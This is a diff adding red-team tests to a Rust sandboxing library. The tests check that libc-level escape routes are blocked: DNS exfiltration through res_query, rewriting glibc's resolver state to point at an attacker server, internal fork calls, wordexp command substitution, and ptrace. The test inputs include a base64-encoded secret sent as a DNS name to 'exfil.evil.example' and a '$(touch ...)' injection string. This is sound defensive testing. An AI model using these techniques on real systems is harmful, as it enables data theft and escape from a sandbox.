@@ -12,6 +12,7 @@ mod common;
 use common::errno;
 
 use fnshield::{Action, Details, Event, InterceptorChoice, Mechanism, Mode, PolicyKind, Shield};
+use std::ffi::CString;
 use std::net::{SocketAddr, TcpListener, UdpSocket};
 use std::os::fd::AsRawFd;
 use std::path::PathBuf;
@@ -1466,3 +1467,241 @@ fn r3_sctp_refused() {
     ));
 }
 both!(r3_sctp_socket_refused, super::r3_sctp_refused);
+
+// ---------------------------------------------------------------------------------------------
+// Red-team round 4 (libc layer): libc functions that reach the network, other processes or a
+// new process through glibc's internal names.
+// ---------------------------------------------------------------------------------------------
+
+extern "C" {
+    #[link_name = "__res_init"]
+    fn res_init() -> i32;
+    fn __res_state() -> *mut u8;
+    fn res_query(name: *const libc::c_char, class: i32, ty: i32, answer: *mut u8, len: i32) -> i32;
+    fn _Fork() -> libc::pid_t;
+    fn daemon(nochdir: i32, noclose: i32) -> i32;
+    fn wordexp(words: *const libc::c_char, we: *mut [usize; 3], flags: i32) -> i32;
+    fn wordfree(we: *mut [usize; 3]);
+}
+
+/// Point the calling thread's resolver state (`_res`) at `ip:53` only, with one try of one
+/// second (offsets of glibc's `struct __res_state` on LP64).
+fn res_point_at(ip: [u8; 4]) {
+    // SAFETY: res_init fills the thread's `_res`; the writes stay inside its 568 bytes.
+    unsafe {
+        assert_eq!(res_init(), 0);
+        let st = __res_state();
+        std::ptr::write_unaligned(st.cast::<i32>(), 1); // retrans
+        std::ptr::write_unaligned(st.add(4).cast::<i32>(), 1); // retry
+        std::ptr::write_unaligned(st.add(16).cast::<i32>(), 1); // nscount
+        let sa = sockaddr_in(ip, 53, libc::AF_INET as u16);
+        std::ptr::write_unaligned(st.add(20).cast::<libc::sockaddr_in>(), sa);
+        std::ptr::write_unaligned(st.add(536).cast::<usize>(), 0); // _u._ext.nsaddrs[0]
+    }
+}
+
+fn ip4(s: &str) -> [u8; 4] {
+    s.parse::<std::net::Ipv4Addr>().unwrap().octets()
+}
+
+/// `res_query` sends a query for any name through glibc's own sockets: the name is decided
+/// as `getaddrinfo`'s (no query leaves for a name the policy does not allow), and a name
+/// server the function wrote into `_res` is decided as a destination (for `res_query` and for
+/// `getaddrinfo`, which uses the same state).
+fn r4_resolver_functions() {
+    let rip = per_ic("127.0.0.201", "127.0.0.202", "127.0.0.203");
+    let aip = per_ic("127.0.0.204", "127.0.0.205", "127.0.0.206");
+    let resolver = bind53(rip);
+    let attacker = bind53(aip);
+    let s = shield(|b| b.resolv_conf(format!("nameserver {rip}\n")));
+    let mut answer = [0u8; 512];
+    // The configured resolver, a name that is not allowed.
+    res_point_at(ip4(rip));
+    let leak = c"c2VjcmV0LWtleQ.exfil.evil.example";
+    // SAFETY: res_query with a valid name and answer buffer.
+    let r = unsafe { res_query(leak.as_ptr(), 1, 1, answer.as_mut_ptr(), 512) };
+    if cfg!(feature = "libc-layer") {
+        assert_eq!(r, -1, "res_query of a name that is not allowed");
+        assert!(
+            nothing_arrived(&resolver),
+            "the query left for the resolver"
+        );
+        let evs = events(&s);
+        assert!(evs.iter().any(|e| e.action == Action::Blocked
+            && matches!(&e.details, Details::Bypass { what } if what == "DNS query for c2vjcmv0lwtleq.exfil.evil.example")), "{evs:?}");
+    }
+    // A name server of the function's choosing, an allowed name.
+    res_point_at(ip4(aip));
+    let allowed = c"sqs.us-east-1.amazonaws.com";
+    // SAFETY: as above.
+    let r = unsafe { res_query(allowed.as_ptr(), 1, 1, answer.as_mut_ptr(), 512) };
+    assert_eq!(r, -1, "res_query through a rewritten _res");
+    assert!(
+        nothing_arrived(&attacker),
+        "res_query reached the rewritten name server"
+    );
+    let mut res: *mut libc::addrinfo = std::ptr::null_mut();
+    let hints = libc::addrinfo {
+        ai_flags: 0,
+        ai_family: libc::AF_INET,
+        ai_socktype: libc::SOCK_STREAM,
+        ai_protocol: 0,
+        ai_addrlen: 0,
+        ai_addr: std::ptr::null_mut(),
+        ai_canonname: std::ptr::null_mut(),
+        ai_next: std::ptr::null_mut(),
+    };
+    // SAFETY: getaddrinfo with valid strings, hints and out-pointer.
+    let r = unsafe { libc::getaddrinfo(allowed.as_ptr(), std::ptr::null(), &hints, &mut res) };
+    if r == 0 {
+        // SAFETY: the list getaddrinfo returned.
+        unsafe { libc::freeaddrinfo(res) };
+    }
+    assert_ne!(r, 0, "getaddrinfo through a rewritten _res");
+    assert!(
+        nothing_arrived(&attacker),
+        "getaddrinfo reached the rewritten name server"
+    );
+    assert!(blocked_net(&events(&s), 53));
+}
+both!(r4_resolver_functions, super::r4_resolver_functions);
+
+/// Processes created by glibc's internal `fork`/`clone` where no child may run: `_Fork`,
+/// `clone` (without CLONE_THREAD), `daemon`, and `wordexp`'s command substitution. Each is
+/// refused; no process runs.
+fn r4_internal_process_creation() {
+    let (task, _) = dirs();
+    let marker = task.join("wordexp-ran");
+    let _s = shield(|b| b);
+    // A forked child leaves at once with a code the parent would see.
+    // SAFETY: _Fork in a single-purpose case process; the child only calls _exit.
+    let pid = unsafe { _Fork() };
+    if pid == 0 {
+        // SAFETY: leave the child at once.
+        unsafe { libc::_exit(42) };
+    }
+    assert_eq!((pid, errno()), (-1, libc::EPERM), "_Fork");
+    extern "C" fn child(_: *mut libc::c_void) -> i32 {
+        // SAFETY: leave the child at once.
+        unsafe { libc::_exit(42) }
+    }
+    let mut stack = vec![0u8; 64 * 1024];
+    // SAFETY: clone with a fresh stack whose top is 16-byte aligned; the child only calls
+    // _exit.
+    let pid = unsafe {
+        let top = stack.as_mut_ptr().add(stack.len()) as usize & !15;
+        libc::clone(
+            child,
+            top as *mut libc::c_void,
+            libc::SIGCHLD,
+            std::ptr::null_mut(),
+        )
+    };
+    assert_eq!((pid, errno()), (-1, libc::EPERM), "clone(SIGCHLD)");
+    // daemon() would leave this process as the child: the parent _exits. Run it in a fork…
+    // which is refused too, so daemon is called here: refused, it returns -1 and we go on.
+    // SAFETY: daemon(1, 1): no chdir, no close; refused before any fork.
+    let r = unsafe { daemon(1, 1) };
+    assert_eq!((r, errno()), (-1, libc::EPERM), "daemon");
+    let words = CString::new(format!("$(touch {})", marker.display())).unwrap();
+    let mut we = [0usize; 3];
+    // SAFETY: wordexp with a valid string and wordexp_t (3 words on LP64).
+    let r = unsafe { wordexp(words.as_ptr(), &mut we, 0) };
+    if r == 0 {
+        // SAFETY: the wordexp_t filled above.
+        unsafe { wordfree(&mut we) };
+    }
+    assert_ne!(r, 0, "wordexp ran a command substitution");
+    assert!(!marker.exists(), "wordexp's shell ran");
+    // No child of ours exists.
+    // SAFETY: waitpid with WNOHANG.
+    let w = unsafe { libc::waitpid(-1, std::ptr::null_mut(), libc::WNOHANG) };
+    assert_eq!((w, errno()), (-1, libc::ECHILD), "a child was created");
+}
+both!(
+    r4_internal_process_creation,
+    super::r4_internal_process_creation
+);
+
+/// `ptrace` of a same-uid process reads its memory: refused as `process_vm_readv` is.
+fn r4_ptrace_other_process() {
+    let sib = sibling();
+    let pid = sib.0;
+    let s = shield(|b| b);
+    // SAFETY: ptrace(PTRACE_SEIZE) of our child with no options.
+    let r = unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) };
+    let e = errno();
+    if r == 0 {
+        // SAFETY: read a word of the child's memory, to show what the attach gives.
+        let w = unsafe { libc::ptrace(libc::PTRACE_PEEKDATA, pid, SECRET.as_ptr(), 0) };
+        panic!("ptrace attached to another process (read {w:#x})");
+    }
+    assert_eq!(e, libc::EPERM, "ptrace(PTRACE_SEIZE)");
+    drop(sib);
+    // The libc layer decides it (and reports it as a read of the process's memory); the
+    // filter alone refuses every ptrace in the kernel, without an event.
+    if cfg!(feature = "libc-layer") {
+        assert!(
+            any_event(&events(&s), PolicyKind::ReadHandler, Action::Blocked),
+            "ptrace is reported"
+        );
+    }
+}
+both!(r4_ptrace_other_process, super::r4_ptrace_other_process);
+
+/// Alert mode: the same calls behave exactly as without a shield, and each violation is
+/// reported (kind 11's rule for the round-4 hooks).
+fn r4_alert_mode_unchanged() {
+    let rip = per_ic("127.0.0.207", "127.0.0.208", "127.0.0.209");
+    let aip = per_ic("127.0.0.210", "127.0.0.211", "127.0.0.212");
+    let _resolver = bind53(rip);
+    let attacker = bind53(aip);
+    let (task, _) = dirs();
+    let s = shield(|b| {
+        b.resolv_conf(format!("nameserver {rip}\n"))
+            .mode(Mode::Alert)
+    });
+    res_point_at(ip4(aip));
+    let mut answer = [0u8; 512];
+    let name = c"c2VjcmV0LWtleQ.exfil.evil.example";
+    // SAFETY: res_query with a valid name and answer buffer (no answer comes: one 1 s try).
+    let r = unsafe { res_query(name.as_ptr(), 1, 1, answer.as_mut_ptr(), 512) };
+    assert_eq!(r, -1, "nobody answers");
+    assert!(
+        !nothing_arrived(&attacker),
+        "the query reaches the rewritten name server"
+    );
+    // SAFETY: _Fork; the child only calls _exit.
+    let pid = unsafe { _Fork() };
+    if pid == 0 {
+        // SAFETY: leave the child at once.
+        unsafe { libc::_exit(3) };
+    }
+    assert!(pid > 0, "_Fork: {}", errno());
+    let mut status = 0;
+    // SAFETY: reaping our child.
+    unsafe { libc::waitpid(pid, &mut status, 0) };
+    assert_eq!(libc::WEXITSTATUS(status), 3);
+    // The trap interceptor kills exec'd children by design (children need notify).
+    if ic() != Mechanism::SeccompTrap {
+        let marker = task.join("wordexp-ran");
+        let words = CString::new(format!("$(touch {})", marker.display())).unwrap();
+        let mut we = [0usize; 3];
+        // SAFETY: wordexp with a valid string and wordexp_t; freed after.
+        let r = unsafe { wordexp(words.as_ptr(), &mut we, 0) };
+        assert_eq!(r, 0, "wordexp");
+        // SAFETY: the wordexp_t filled above.
+        unsafe { wordfree(&mut we) };
+        assert!(marker.exists(), "wordexp's shell ran");
+    }
+    let evs = events(&s);
+    assert!(
+        evs.iter()
+            .any(|e| e.policy == PolicyKind::OutboundConnectivity
+                && e.action == Action::Alerted
+                && matches!(&e.details, Details::Connect { port: 53, .. })),
+        "{evs:?}"
+    );
+    assert!(evs.iter().all(|e| e.action != Action::Blocked), "{evs:?}");
+}
+both!(r4_alert_mode_unchanged, super::r4_alert_mode_unchanged);
